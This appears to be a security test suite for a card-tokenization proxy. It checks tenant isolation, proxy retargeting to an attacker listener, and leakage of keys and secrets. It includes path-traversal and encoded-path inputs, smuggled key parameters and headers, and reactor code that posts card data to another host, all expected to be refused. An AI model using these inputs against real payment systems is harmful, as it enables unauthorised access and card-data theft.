/**
 * The attacks: somebody holds a key of another tenant, or a proxy's key alone, or may change proxies and nothing else, and
 * wants cards sent to himself, or the secrets that a stored proxy holds. Each rule stands by its attack.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { certificates } from '../kit/certificates.ts'
import { newDestination } from '../kit/destination.ts'
import type { TestProxy } from '../kit/proxy.ts'
import { newProxy } from '../kit/proxy.ts'
import { reactorCode } from '../kit/reactor.ts'
import { call, invoke, newApplication, newStoredProxy, proxyError } from '../kit/stored-proxy.ts'
import { sweep } from '../kit/sweep.ts'

const NUMBER = '4242424242424242'
const UNKNOWN = 'TDEyQmkhQMpGiZd13FSRQ9'

const proxy = await newProxy()
const destination = await newDestination()
/** What the attacker listens on: the same host name, which bindings tell apart by the port. */
const evil = await newDestination()
t.teardown(() => Promise.all([proxy.close(), destination.close(), evil.close()]))
const { url } = destination
const here = `localhost:${destination.port}`
const card = await proxy.token(NUMBER)
const body = `"{{ ${card} }}"`
const heard = () => evil.attempts

/** What a holder of these permissions gets for it. */
async function tries(permissions: string[], method: string, path: string, json: object, tenant = 'default') {
  return call(proxy, method, path, json, await proxy.newKey(permissions, { tenant }))
}

/** A proxy that asks for no key, of an application bound to our destination. */
async function newOpenProxy(more: object = {}): Promise<{ id: string; key: string; application: string }> {
  const application = await newApplication(proxy, { destinations: [here] })
  const made = await newStoredProxy(proxy, url, { require_auth: false, application: { id: application }, ...more })
  return { ...made, application }
}

t.test('a key of another tenant finds no proxy, neither by the API nor by its key', async (t) => {
  const { id, key } = await newStoredProxy(proxy, url)
  const stranger = await proxy.newKey(['*'], { tenant: 'stranger' })
  const before = destination.requests.length
  const [theirs, nobodys] = [
    await invoke(proxy, key, { apiKey: stranger }),
    await invoke(proxy, UNKNOWN, { apiKey: stranger })
  ]
  t.equal(theirs.status, 404)
  t.strictSame(proxyError(theirs), proxyError(nobodys), 'as if there were none')
  t.equal(destination.requests.length, before)
  const valid = { name: 'x', destination_url: evil.url }
  for (const [method, json] of [
    ['GET', undefined],
    ['PUT', valid],
    ['PATCH', { destination_url: evil.url }],
    ['DELETE', undefined]
  ] as const)
    t.equal((await call(proxy, method, `/proxies/${id}`, json, stranger)).status, 404, method)
  t.match((await call(proxy, 'GET', `/proxies?id=${id}`, undefined, stranger)).body, { data: [] })
  const application = await newApplication(proxy, {})
  const attached = await call(proxy, 'POST', '/proxies', { ...valid, application: { id: application } }, stranger)
  t.match(attached, { status: 400, body: { errors: { 'application.id': [String] } } }, 'nor an application')
  t.equal((await invoke(proxy, key)).status, 200)
})

t.test('the tokens of a stored proxy are those of its own tenant, whoever calls', async (t) => {
  const { key } = await newOpenProxy()
  const stranger = await proxy.newKey(['*'], { tenant: 'stranger' })
  const foreign = await call(proxy, 'POST', '/tokens', { id: 'foreign', type: 'token', data: NUMBER }, stranger)
  t.equal(foreign.status, 201)
  const response = await invoke(proxy, key, { apiKey: stranger, body: '"{{ foreign }}"' })
  t.match(proxyError(response), { code: 'ERR_TOKEN_UNKNOWN', status: 400 })
})

t.test('an unauthenticated proxy is retargeted by PATCH or PUT: its application does not go along', async (t) => {
  const { id, key, application } = await newOpenProxy()
  const before = heard()
  const wide = { host: 'localhost', methods: ['POST'], pathPrefix: '/deep/er' }
  for (const destination_url of [evil.url, `https://other.localhost:${destination.port}`]) {
    const patch = await tries(['proxy:update'], 'PATCH', `/proxies/${id}`, { destination_url })
    t.match(patch, { status: 400, body: { errors: { 'application.id': [String] } } }, destination_url)
    const whole = { name: 'x', destination_url, require_auth: false, application: { id: application } }
    t.equal((await tries(['proxy:update'], 'PUT', `/proxies/${id}`, whole)).status, 400)
  }
  const narrow = await newApplication(proxy, { destinations: [wide] })
  const above = { name: 'x', destination_url: `${url}/deep`, require_auth: false, application: { id: narrow } }
  t.equal((await call(proxy, 'POST', '/proxies', above)).status, 400, 'a part of the destination is not enough')
  for (const destinations of [null, []]) {
    const unbound = await newApplication(proxy, { destinations })
    const more = { name: 'x', destination_url: url, require_auth: false, application: { id: unbound } }
    t.match(await call(proxy, 'POST', '/proxies', more), { status: 400 }, 'nor is an application without any')
  }
  t.equal((await invoke(proxy, key, { apiKey: null, body })).status, 200, 'the proxy is what it was')
  t.equal(heard(), before)
})

t.test(
  'the application is swapped, taken off or lent to everybody by somebody who may not change applications',
  async (t) => {
    const application = await newApplication(proxy, { destinations: [here] })
    const free = await newApplication(proxy, {})
    const { id } = await newStoredProxy(proxy, url, { application: { id: application } })
    const shown = async () => (await call(proxy, 'GET', `/proxies/${id}`)).body
    const before = await shown()
    const whole = { name: 'x', destination_url: url }
    const attempts: [string, string, object][] = [
      ['PATCH', `/proxies/${id}`, { application: { id: free } }],
      ['PATCH', `/proxies/${id}`, { application: null }],
      ['PATCH', `/proxies/${id}`, { require_auth: false }],
      ['PUT', `/proxies/${id}`, { ...whole, application: { id: free } }],
      ['PUT', `/proxies/${id}`, whole],
      ['PUT', `/proxies/${id}`, { ...whole, application: { id: application }, require_auth: false }],
      ['POST', '/proxies', { ...whole, application: { id: free } }],
      ['POST', '/proxies', { ...whole, application: { id: application }, require_auth: false }]
    ]
    for (const [method, path, json] of attempts) {
      const refused = await tries(['proxy:create', 'proxy:update', 'proxy:read'], method, path, json)
      t.match(refused, { status: 403, body: { code: 'ERR_PERMISSION' } }, `${method} ${JSON.stringify(json)}`)
      t.match(refused.text, 'application:update')
    }
    t.strictSame(await shown(), before)
    const kept = await tries(['proxy:update'], 'PATCH', `/proxies/${id}`, { name: 'renamed' })
    t.equal(kept.status, 204, 'what leaves it alone is allowed')
    const lent = await tries(['proxy:update', 'application:update'], 'PATCH', `/proxies/${id}`, { require_auth: false })
    t.equal(lent.status, 204)
    t.equal((await tries(['proxy:update'], 'PATCH', `/proxies/${id}`, { name: 'again' })).status, 204)
  }
)

t.test('the attached application binds a proxy with require_auth too, and so does the caller', async (t) => {
  const application = await newApplication(proxy, { destinations: ['psp.example'] })
  const { id, key } = await newStoredProxy(proxy, evil.url, { application: { id: application } })
  const before = heard()
  for (const sent of [body, '{}']) t.match(proxyError(await invoke(proxy, key, { body: sent })), DENIED)
  const bound = await proxy.newKey(['token:use'], { destinations: ['psp.example'] })
  const plain = await newStoredProxy(proxy, evil.url)
  for (const sent of [body, '{}'])
    t.match(proxyError(await invoke(proxy, plain.key, { body: sent, apiKey: bound })), DENIED)
  t.equal(heard(), before, 'not one connection was tried')
  t.equal((await call(proxy, 'DELETE', `/applications/${application}`)).status, 204)
  t.match(proxyError(await invoke(proxy, key)), { code: 'ERR_CONFLICT' }, 'its end is not the end of its bindings')
  t.equal((await call(proxy, 'DELETE', `/proxies/${id}`)).status, 204)
})

t.test('bindings of the attached application that change afterwards hold at the next call', async (t) => {
  const { key, application } = await newOpenProxy()
  const stored = await newStoredProxy(proxy, url, { application: { id: application } })
  const ask = async () => [await invoke(proxy, key, { apiKey: null, body }), await invoke(proxy, stored.key, { body })]
  for (const response of await ask()) t.equal(response.status, 200)
  const rebind = (destinations: unknown) =>
    call(proxy, 'PUT', `/applications/${application}`, { name: 'a', permissions: ['token:use'], destinations })
  await rebind(['psp.example'])
  for (const response of await ask()) t.match(proxyError(response), DENIED)
  await rebind([{ host: here, methods: ['GET'] }])
  for (const response of await ask()) t.match(proxyError(response), DENIED, 'a method')
  await rebind(null)
  const [open, asked] = await ask()
  t.match(open === undefined ? null : proxyError(open), DENIED, 'bound to nothing, it lets nobody in without a key')
  t.equal(asked?.status, 200, 'with one, the caller’s bindings are what is left')
})

t.test('a path that is made of a value does not get around a path that the application is bound to', async (t) => {
  const application = await newApplication(proxy, {
    permissions: ['token:use', 'token:use:head'],
    destinations: [{ host: here, pathPrefix: '/v1/charges' }]
  })
  const more = { require_auth: false, application: { id: application } }
  const { key } = await newStoredProxy(proxy, `${url}/v1/charges`, more)
  const up = await proxy.token('..')
  const before = destination.requests.length
  const hidden = ['..%2frefunds', '7%2F..%2F..%2Frefunds', '%2e%2e%2frefunds', '..%5crefunds', '..;/refunds'].map(
    (tail) => `/proxy/${tail}`
  )
  for (const path of [`/proxy/%7B%7B${up}%7D%7D/refunds`, '/proxy/../refunds', '/proxy/%2e%2e/refunds', ...hidden])
    t.equal((await invoke(proxy, key, { apiKey: null, path })).status, 400, path)
  t.equal(destination.requests.length, before)
  t.equal((await invoke(proxy, key, { apiKey: null, path: '/proxy/7' })).status, 200)
})

t.test('nor does one of which a value ends the segment', async (t) => {
  const bound = { destinations: [{ host: here, pathPrefix: '/v1/charges' }] }
  const key = await proxy.newKey(['token:use', 'token:use:head'], bound)
  const value = await proxy.token('back')
  const before = destination.requests.length
  const ask = (tail: string) =>
    proxy.request(
      `GET /proxy/${tail} HTTP/1.1\r\nHost: h\r\nBT-API-KEY: ${key}\r\nBT-PROXY-URL: ${url}/v1\r\nConnection: close\r\n\r\n`
    )
  t.equal((await ask(`charges%7B%7B${value}%7D%7D`)).status, 403)
  t.equal((await ask(`%7B%7B${value}%7D%7D`)).status, 403)
  t.equal(destination.requests.length, before)
  t.equal((await ask(`charges/%7B%7B${value}%7D%7D`)).status, 200)
})

t.test('a leaked key of a proxy that asks for an API key is worth nothing', async (t) => {
  const { key } = await newStoredProxy(proxy, url)
  const before = destination.requests.length
  for (const apiKey of [null, '', 'wrong', key]) t.equal((await invoke(proxy, key, { apiKey })).status, 401)
  const viaKey = await proxy.request(`GET /proxies HTTP/1.1\r\nHost: x\r\nBT-API-KEY: ${key}\r\n\r\n`)
  t.equal(viaKey.status, 401, 'nor is it a key of the API')
  const asProxyKey = await invoke(proxy, proxy.key, { apiKey: null })
  t.equal(asProxyKey.status, 404, 'nor a key of the API one of a proxy')
  t.equal(destination.requests.length, before)
})

t.test('no key of ours reaches the destination, however it is sent', async (t) => {
  const { key } = await newStoredProxy(proxy, url)
  const open = await newOpenProxy()
  const sent: [string | null, Parameters<typeof invoke>[2]][] = [
    [key, {}],
    [key, { apiKey: null, headers: { 'X-API-KEY': proxy.key } }],
    [key, { headers: { 'X-API-KEY': proxy.key } }],
    [null, { path: `/proxy?bt-proxy-key=${key}` }],
    [null, { path: `/proxy/a?x=1&BT-PROXY-KEY=${key}&y=2` }],
    [null, { path: `/proxy/a?%62t-proxy-%6Bey=${key.replace(key.charAt(0), `%${key.charCodeAt(0).toString(16)}`)}` }],
    [key, { path: `/proxy?bt-proxy-key=${key}&bt-proxy-key=${key}` }],
    [open.key, { apiKey: null }],
    [open.key, { apiKey: proxy.key, headers: { 'bt-Proxy-url': 'https://ignored.example' } }],
    [open.key, { apiKey: null, headers: { 'X-API-KEY': proxy.key } }],
    [null, { apiKey: null, path: `/proxy?bt-proxy-key=${open.key}`, headers: { 'X-API-KEY': proxy.key } }]
  ]
  const both = `GET /proxy HTTP/1.1\r\nHost: h\r\nBT-API-KEY: ${proxy.key}\r\nX-API-KEY: ${proxy.key}\r\nBT-PROXY-URL: ${url}\r\nConnection: close\r\n\r\n`
  t.equal((await proxy.request(both)).status, 200)
  t.strictSame(sweep([proxy.key], { request: destination.requests.at(-1)?.raw.toString('latin1') ?? '' }), [])
  for (const [header, given] of sent) {
    const response = await invoke(proxy, header, given)
    t.equal(response.status, 200, JSON.stringify(given?.path ?? given?.headers ?? {}))
    const raw = destination.requests.at(-1)?.raw.toString('latin1') ?? ''
    t.strictSame(sweep([key, open.key, proxy.key], { request: raw }), [])
    t.notMatch(raw, /bt-(?:proxy|api)|x-api-key|ignored\.example/i)
  }
})

t.test('a Connection field takes no control away that a gateway in front of Sluice has set', async (t) => {
  const { key } = await newStoredProxy(proxy, url)
  const before = heard()
  const headers = { Connection: 'BT-PROXY-KEY, Sluice-Subjects', 'BT-PROXY-URL': evil.url }
  t.equal((await invoke(proxy, key, { headers })).status, 200)
  t.equal(heard(), before, 'the stored proxy says where to')
  const narrowed = await invoke(proxy, key, { body, headers: { ...headers, 'Sluice-Subjects': 'another' } })
  t.match(proxyError(narrowed), { code: 'ERR_SUBJECT_NOT_ALLOWED', status: 400 })
})

t.test('secrets that stay while the destination moves: whoever was never told them would be sent them', async (t) => {
  const { client } = await certificates()
  const secrets = { configuration: { KEY: 'marked-secret' }, client_certificate: `${client.cert}${client.key}` }
  const { id } = await newStoredProxy(proxy, url, secrets)
  const patch = (json: object) => tries(['proxy:update'], 'PATCH', `/proxies/${id}`, json)
  const destination_url = evil.url
  t.match(await patch({ destination_url }), {
    status: 400,
    body: { errors: { 'configuration.KEY': /anew/, client_certificate: /anew/ } }
  })
  const put = { name: 'x', destination_url, configuration: { KEY: null }, client_certificate: '«redacted»' }
  t.match(await tries(['proxy:update'], 'PUT', `/proxies/${id}`, put), {
    status: 400,
    body: { errors: { 'configuration.KEY': /anew/, client_certificate: /anew/ } }
  })
  const half = { destination_url, configuration: { KEY: 'x' }, client_certificate: { certificate: client.cert } }
  t.match(await patch(half), { status: 400, body: { errors: { client_certificate: /anew/ } } })
  t.equal((await patch({ destination_url: `${url}/elsewhere` })).status, 204, 'the same origin keeps them')
  t.equal((await patch({ destination_url, configuration: { KEY: 'y' }, client_certificate: null })).status, 204)
})

t.test(
  'what a stored proxy keeps secret is in no answer, log, metric, audit record or file of the store',
  async (t) => {
    const own = await newProxy()
    t.teardown(() => own.close())
    const { client } = await certificates()
    const [CONFIGURED, REPLACED] = ['zq7-CONFIGURED-"value', 'zq7-REPLACED-value']
    const made = await newStoredProxy(own, url, {
      configuration: { KEY: CONFIGURED },
      client_certificate: { certificate: client.cert, key: client.key }
    })
    const answers: string[] = []
    const ask = async (method: string, path: string, json?: object) => {
      answers.push((await call(own, method, path, json)).text)
    }
    await ask('GET', `/proxies/${made.id}`)
    await ask('GET', '/proxies')
    await ask('PUT', `/proxies/${made.id}`, { name: '', destination_url: 'x', configuration: { KEY: null, B: [] } })
    await ask('PUT', `/proxies/${made.id}`, { name: 'x', destination_url: url, configuration: { KEY: null } })
    await ask('PATCH', `/proxies/${made.id}`, { configuration: { KEY: REPLACED }, timeout: 0 })
    await ask('PATCH', `/proxies/${made.id}`, { configuration: { KEY: REPLACED } })
    await ask('POST', '/proxies', { name: 'x', configuration: { KEY: REPLACED }, client_certificate: client.key })
    await ask('GET', '/logs')
    const keyed = [`/proxy?bt-proxy-key=${made.key}`, `/proxy/x?a=b&bt-proxy-key=${made.key}`]
    for (const path of keyed) {
      for (const apiKey of [own.key, null]) {
        const response = await invoke(own, null, { apiKey, path, body: '{"a":"{{ nobody }}"}' })
        answers.push(response.raw.toString('latin1'))
      }
      t.equal((await invoke(own, null, { path })).status, 200)
    }
    const metrics = await (await fetch(`http://127.0.0.1:${own.adminPort}/metrics`)).text()
    await own.app.close()
    const [, middle = ''] = /-----\n([\s\S]{60})/.exec(client.key) ?? []
    const places = {
      answers,
      log: own.logged(),
      metrics,
      ...files(own, 'audit'),
      ...files(own, 'data')
    }
    t.strictSame(sweep([CONFIGURED, REPLACED, middle], places), [])
    const { answers: _shown, ...quiet } = places
    t.strictSame(sweep([made.key], quiet), [], 'and the key of the proxy in its answers alone')
  }
)

t.test('every call is in the audit log before it leaves, with a token or without', async (t) => {
  const { id, key, application } = await newOpenProxy()
  await invoke(proxy, key, { apiKey: null, headers: { 'BT-TRACE-ID': 'plain' } })
  await invoke(proxy, key, { apiKey: null, body, headers: { 'BT-TRACE-ID': 'reveals' } })
  await invoke(proxy, key, { apiKey: null, method: 'GET', body: null, headers: { 'BT-TRACE-ID': 'passes' } })
  await invoke(proxy, key, {
    apiKey: null,
    body: `${body}${' '.repeat(2_000_000)}`,
    headers: { 'BT-TRACE-ID': 'streams' }
  })
  await proxy.vault.released()
  const lines = Object.values(files(proxy, 'audit'))
    .flatMap((file) => file.toString().trim().split('\n'))
    .map((line) => JSON.parse(line) as Record<string, unknown>)
  for (const trace of ['plain', 'reveals', 'passes', 'streams']) {
    const [called, ...more] = lines.filter((line) => line['trace'] === trace)
    t.match(called, { door: 'proxy', proxy: id, application, key: '', to: here, tokens: [] }, trace)
    const reveals = trace === 'reveals' || trace === 'streams'
    t.match(more, reveals ? [{ door: 'proxy', with: called?.['n'], tokens: [card] }] : [], 'linked to it')
    const outcomes = lines.filter((line) => line['of'] === called?.['n'])
    t.match(outcomes, [{ outcome: '200' }], 'one outcome')
  }
})

t.test('when the audit log cannot be written, no stored proxy is called', async (t) => {
  const mute = await newProxy({ audit: { path: '/dev/null/audit' } })
  t.teardown(() => mute.close())
  const application = await newApplication(mute, { destinations: [here] })
  const { key } = await newStoredProxy(mute, url, { require_auth: false, application: { id: application } })
  const before = destination.attempts
  const bodies = [null, '{}', ' '.repeat(2_000_000)]
  for (const sent of bodies) {
    const response = await invoke(mute, key, { apiKey: null, body: sent })
    t.match(proxyError(response), { code: 'ERR_AUDIT_UNAVAILABLE', status: 503, forwarded: 'no' })
  }
  t.equal(destination.attempts, before)
})

t.test('the destination hears of a bound token by no stored proxy', async (t) => {
  const bound = await proxy.token(NUMBER, { destinations: ['psp.example'] })
  const { key } = await newOpenProxy()
  const plain = await newStoredProxy(proxy, url)
  const before = destination.requests.length
  t.match(proxyError(await invoke(proxy, key, { apiKey: null, body: `"{{ ${bound} }}"` })), DENIED)
  t.match(proxyError(await invoke(proxy, plain.key, { body: `"{{ ${bound} }}"` })), DENIED)
  t.equal(destination.requests.length, before)
})

t.test('code of a stored proxy sends what it was shown where that may go, and nowhere else', async (t) => {
  const other = await newDestination()
  t.teardown(() => other.close())
  const tied = await proxy.token(NUMBER, { destinations: [`localhost:${destination.port}`] })
  const free = await proxy.token(NUMBER)
  const code = reactorCode(`
    const sent = await fetch('${other.url}', { method: 'POST', body: JSON.stringify(req.args.body) })
      .then((answer) => answer.status, (error) => error.code)
    return { res: { statusCode: 200, body: { sent } } }`)
  const stored = await newStoredProxy(proxy, url, { request_transform: { code } })
  const sent = async (id: string) =>
    (await invoke(proxy, stored.key, { body: `{"pan":"{{ ${id} }}"}` })).body.toString()
  t.equal(await sent(tied), '{"sent":"ERR_DESTINATION_FORBIDDEN"}')
  t.equal(other.attempts, 0)
  t.equal(await sent(free), '{"sent":200}')
  const spying = reactorCode(`
    const sent = await fetch('${other.url}', { method: 'POST', body: JSON.stringify(req.args.body) })
      .then((answer) => answer.status, (error) => error.code)
    return { body: { sent } }`)
  const after = await newStoredProxy(proxy, url, { response_transform: { code: spying } })
  const echoed = await invoke(proxy, after.key, { body: `{"pan":"{{ ${tied} }}"}` })
  t.equal(echoed.body.toString(), '{"sent":"ERR_DESTINATION_FORBIDDEN"}', 'nor when the destination has said it again')
  t.equal(other.requests.length, 1)
})

const DENIED = { code: 'ERR_DESTINATION_FORBIDDEN', status: 403, forwarded: 'no' }

function files(of: TestProxy, name: string): Record<string, Buffer> {
  const folder = join(of.folder, name)
  return Object.fromEntries(
    readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .map((path) => join(folder, path))
      .filter((path) => statSync(path).isFile())
      .map((path) => [path.slice(of.folder.length), readFileSync(path)])
  )
}
